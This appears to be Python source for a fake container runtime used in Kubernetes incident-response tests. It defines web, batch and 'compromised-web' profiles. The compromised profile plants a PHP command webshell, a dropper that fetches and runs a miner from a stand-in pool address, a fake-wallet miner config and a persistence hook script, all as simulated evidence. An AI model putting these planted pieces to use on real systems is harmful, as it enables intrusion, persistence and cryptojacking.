"""Runtime profiles: what runs in a fake container, from its scenario's ``x-fake`` block.

``resolve(fake, ctx)`` turns an ``x-fake`` dict into a ContainerSpec: the image kind, the main
process, the files laid into the container's root before it starts, and a few special effects
(a fake mining pool to connect to, a crafted /proc/net/tcp). Named profiles:

- ``web``: busybox root (the image "registry.example.com/shop/web": /docker-entrypoint.sh,
  /var/www/index.html, an empty /docker-entrypoint.d/ and the named pipe /run/web.tick, all
  dated IMAGE_TIME); the entrypoint starts ``httpd`` on 0.0.0.0:8080, sources
  /docker-entrypoint.d/*.sh, and loops writing access-log lines to stdout every 5 s without
  forking (it waits on /run/web.tick): its only child is httpd.
- ``compromised-web``: web plus exactly what ``plant`` lays down (see there): the replicas of a
  web Deployment differ only by that, and by noise (pids, start times, addresses, hostname,
  atimes, kubelet-written /etc files, logs).
- ``batch``: busybox root; a worker loop.
- ``distroless``: static root; ``/app 8080`` (no sh, ps, cat, tar).
- ``hostile``: see ``profiles_hostile``.

Generic form: ``rootfs: busybox|static``, ``script`` (run as ``sh -c script``), ``files``
(``{"/path": "content"}``; a value may also be ``{"content": ..., "mode": 0o755 or "0755",
"mtime": epoch seconds}``). Extensions: ``command`` (an argv list, instead of script), ``env``.
A named profile can be combined with ``files``/``env`` (added) and ``script``/``command``
(replacing its main process).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from . import images

POOL_ADDRESS = "198.51.100.7"
POOL_PORT = 3333

# file content that is a copy of a native tool rather than literal bytes
COPY_FCAPP = "fcapp"

# when the example images were "built": the mtime of the files a profile's image adds
IMAGE_TIME = 1700000000.0   # 2023-11-14T22:13:20Z

WALLET = "4AfakeWalletAddressForTestsOnly"
PLANT_DIR = "/tmp/.x"
MINER_PATH = "/tmp/.x/kworkerds"
MINER_COMM = "kworkerds"
WEBSHELL_PATH = "/var/www/upload.php"
HOOK_PATH = "/docker-entrypoint.d/99-healthcheck.sh"
# appended to the miner's copy of fcapp: its sha256 is that of no file of any image
MINER_MARK = b"\0kworkerds xmrig-6.21.0 fake build for tests\0"
# when the planted files were "dropped": about 3.2 days before this server started, the same for
# every compromise it makes (so that compromised replicas list alike)
PLANT_TIME = float(int(time.time() - 3.2 * 86400))


@dataclass
class FileSpec:
    """One entry laid into a container's root before it starts (parents are created).
    Exactly one of content, copy_of, symlink, directory, fifo, sparse_size says what it is."""
    path: bytes                       # absolute path inside the container (any bytes but NUL)
    content: bytes | None = None
    copy_of: str | None = None        # COPY_FCAPP
    symlink: bytes | None = None      # link target, verbatim
    directory: bool = False
    sparse_size: int | None = None    # a sparse file of that size (nothing written)
    mode: int = 0o644
    mtime: float | None = None        # seconds since the epoch; None: now
    fifo: bool = False                # a named pipe
    image: bool = False               # part of the image: laid first, its parent dirs dated IMAGE_TIME
    append: bytes = b""               # copy_of: bytes appended to the copy


@dataclass
class ContainerSpec:
    """Everything the runtime needs to start one container."""
    rootfs: str                                   # images.BUSYBOX / STATIC / DEBUG
    argv: list[str]                               # the main process
    env: dict[str, str] = field(default_factory=dict)
    files: list[FileSpec] = field(default_factory=list)
    needs_pool: bool = False                      # the fake pool must be reachable
    mask_net_tcp: bytes | None = None             # what /proc/net/tcp shows inside
    dir_times: dict = field(default_factory=dict)  # existing dirs re-dated last: {path: mtime}


@dataclass
class ProfileContext:
    """What a profile may depend on."""
    namespace: str
    pod_name: str
    container_name: str
    host_network: bool


def _script_file(path: str, text: str, mtime: float | None = None, image: bool = False) -> FileSpec:
    return FileSpec(path.encode(), text.encode(), mode=0o755, mtime=mtime, image=image)


_WEB_INDEX = "<html><body><h1>shop</h1></body></html>\n"

# No fork in the loop (it waits on a pipe that never speaks, not with sleep): a process listing
# of a healthy replica is always exactly sh and httpd, whenever it is taken.
_WEB_ENTRYPOINT = """\
#!/bin/sh
# web: an HTTP server, the image's entrypoint hooks, and an access log on stdout
httpd -f -p 0.0.0.0:8080 -h /var/www &
echo "web: httpd listening on :8080"
for hook in /docker-entrypoint.d/*.sh; do
  [ -r "$hook" ] && . "$hook"
done
exec 3<> /run/web.tick
i=0
while true; do
  i=$((i+1))
  echo "10.244.0.1 - - \\"GET /healthz HTTP/1.1\\" 200 2 req=$i"
  read -t 5 _ <&3
done
"""


def _web(ctx: ProfileContext) -> ContainerSpec:
    return ContainerSpec(
        rootfs=images.BUSYBOX,
        argv=["/bin/sh", "/docker-entrypoint.sh"],
        files=[_script_file("/docker-entrypoint.sh", _WEB_ENTRYPOINT, IMAGE_TIME, image=True),
               FileSpec(b"/var/www/index.html", _WEB_INDEX.encode(), mtime=IMAGE_TIME, image=True),
               FileSpec(b"/docker-entrypoint.d", directory=True, mode=0o755, mtime=IMAGE_TIME,
                        image=True),
               FileSpec(b"/run/web.tick", fifo=True, mode=0o600, mtime=IMAGE_TIME, image=True)])


_PAYLOAD = f"""\
#!/bin/sh
# dropped by a webshell: fetch the miner, hide it, persist, run it
cd {PLANT_DIR} || exit 1
wget -q -O kworkerds http://{POOL_ADDRESS}/x86_64 || curl -fsSL -o kworkerds http://{POOL_ADDRESS}/x86_64
chmod +x kworkerds
echo '{MINER_PATH} -o {POOL_ADDRESS}:{POOL_PORT} -u {WALLET} -p x -k --donate-level 1 &' > {HOOK_PATH}
nohup ./kworkerds -o {POOL_ADDRESS}:{POOL_PORT} -u {WALLET} -p x -k --donate-level 1 >/dev/null 2>&1 &
"""

_MINER_CONFIG = f"""\
{{
  "autosave": true,
  "cpu": {{"enabled": true, "max-threads-hint": 100}},
  "pools": [{{"url": "{POOL_ADDRESS}:{POOL_PORT}", "user": "{WALLET}",
             "pass": "x", "keepalive": true}}]
}}
"""


def miner_argv(host_network: bool) -> list[str]:
    """The planted miner's command line. Under hostNetwork the pool address would be routed by
    the host: it never dials out there."""
    pool = [] if host_network else ["-o", f"{POOL_ADDRESS}:{POOL_PORT}"]
    return [MINER_PATH, *pool, "-u", WALLET, "-p", "x", "-k", "--donate-level", "1"]


@dataclass
class Plant:
    """What a compromise adds to a running web container, and nothing else:

    - files: the webshell /var/www/upload.php, the dropper /tmp/.x/payload.sh, the miner
      /tmp/.x/kworkerds (a static ELF whose sha256 matches no file of any image) and its
      /tmp/.x/config.json, and the persistence hook /docker-entrypoint.d/99-healthcheck.sh (the
      image's entrypoint sources *.sh there); so also the new directory /tmp/.x, and the mtimes of
      /tmp, /var/www and /docker-entrypoint.d. All dated from PLANT_TIME (~3.2 days before the
      server started), identically in every compromise;
    - one process: ``argv`` (comm kworkerds, exe /tmp/.x/kworkerds, uid 0, parent the
      container's PID 1), writing to the container's log;
    - one connection: ESTABLISHED from the pod IP to the pool 198.51.100.7:3333 (not under
      hostNetwork).
    """
    files: list[FileSpec]
    argv: list[str]
    dir_times: dict[bytes, float]     # the parents of planted files, dated by what was dropped in them


def plant(ctx: ProfileContext) -> Plant:
    dropped = PLANT_TIME
    argv = miner_argv(ctx.host_network)
    shell_time = dropped - 8640
    files = [
        FileSpec(WEBSHELL_PATH.encode(), b"<?php system($_GET['c']); ?>\n", mtime=shell_time),
        FileSpec(PLANT_DIR.encode(), directory=True, mode=0o755, mtime=dropped),
        _script_file(f"{PLANT_DIR}/payload.sh", _PAYLOAD, mtime=dropped),
        FileSpec(MINER_PATH.encode(), copy_of=COPY_FCAPP, append=MINER_MARK, mode=0o755,
                 mtime=dropped + 40),
        FileSpec(f"{PLANT_DIR}/config.json".encode(), _MINER_CONFIG.encode(), mtime=dropped + 41),
        _script_file(HOOK_PATH, " ".join(argv) + " &\n", mtime=dropped + 42),
    ]
    dir_times = {b"/var/www": shell_time, b"/tmp": dropped,
                 b"/docker-entrypoint.d": dropped + 42}
    return Plant(files, argv, dir_times)


def _compromised_web(ctx: ProfileContext) -> ContainerSpec:
    # The entrypoint sources the planted hook, which starts the miner: its third process (PID 3,
    # after sh and httpd), as if the container had restarted after the compromise.
    spec = _web(ctx)
    planted = plant(ctx)
    spec.files += planted.files
    spec.dir_times.update(planted.dir_times)
    spec.needs_pool = not ctx.host_network
    return spec


_BATCH_ENTRYPOINT = """\
#!/bin/sh
# batch: a worker taking jobs from a queue
n=0
echo "worker: started, queue=jobs"
while true; do
  n=$((n+1))
  echo "worker: job $n started"
  sleep 2
  echo "worker: job $n done"
done
"""


def _batch(ctx: ProfileContext) -> ContainerSpec:
    return ContainerSpec(rootfs=images.BUSYBOX, argv=["/bin/sh", "/worker.sh"],
                         files=[_script_file("/worker.sh", _BATCH_ENTRYPOINT)])


def _distroless(ctx: ProfileContext) -> ContainerSpec:
    return ContainerSpec(rootfs=images.STATIC, argv=["/app", "8080"])


def _hostile(ctx: ProfileContext) -> ContainerSpec:
    from .profiles_hostile import hostile
    return hostile(ctx)


PROFILES = {
    "web": _web,
    "compromised-web": _compromised_web,
    "batch": _batch,
    "distroless": _distroless,
    "hostile": _hostile,
}


def _parse_mode(value) -> int:
    if isinstance(value, int):
        return value
    return int(str(value), 8)


def _to_bytes(value) -> bytes:
    if isinstance(value, bytes):
        return value
    return str(value).encode("utf-8", "surrogateescape")


def _file_from_fake(path: str, value) -> FileSpec:
    if not str(path).startswith("/"):
        raise ValueError(f"x-fake files: path {path!r} is not absolute")
    if isinstance(value, dict):
        return FileSpec(_to_bytes(path), _to_bytes(value.get("content", "")),
                        mode=_parse_mode(value.get("mode", 0o644)), mtime=value.get("mtime"))
    return FileSpec(_to_bytes(path), _to_bytes(value if value is not None else ""))


def resolve(fake: dict, ctx: ProfileContext) -> ContainerSpec:
    """The ContainerSpec for an ``x-fake`` block. Raises ValueError if it makes no sense."""
    if not isinstance(fake, dict):
        raise ValueError("x-fake must be a mapping")
    name = fake.get("profile")
    if name is not None:
        if name not in PROFILES:
            raise ValueError(f"unknown x-fake profile {name!r} "
                             f"(known: {', '.join(sorted(PROFILES))})")
        spec = PROFILES[name](ctx)
        if "rootfs" in fake and fake["rootfs"] != spec.rootfs:
            raise ValueError(f"profile {name} uses rootfs {spec.rootfs}, not {fake['rootfs']}")
    else:
        rootfs = fake.get("rootfs", images.BUSYBOX)
        if rootfs not in (images.BUSYBOX, images.STATIC):
            raise ValueError(f"x-fake rootfs must be busybox or static, not {rootfs!r}")
        default = ["/app", "8080"] if rootfs == images.STATIC else ["sleep", "2147483647"]
        spec = ContainerSpec(rootfs=rootfs, argv=default)
    if "script" in fake and "command" in fake:
        raise ValueError("x-fake: give script or command, not both")
    if "script" in fake:
        if spec.rootfs == images.STATIC:
            raise ValueError("x-fake: a static rootfs has no shell to run a script")
        spec.argv = ["/bin/sh", "-c", str(fake["script"])]
    if "command" in fake:
        command = fake["command"]
        if not isinstance(command, list) or not command:
            raise ValueError("x-fake command must be a non-empty list")
        spec.argv = [str(a) for a in command]
    for path, value in (fake.get("files") or {}).items():
        spec.files.append(_file_from_fake(path, value))
    for key, value in (fake.get("env") or {}).items():
        spec.env[str(key)] = str(value)
    return spec
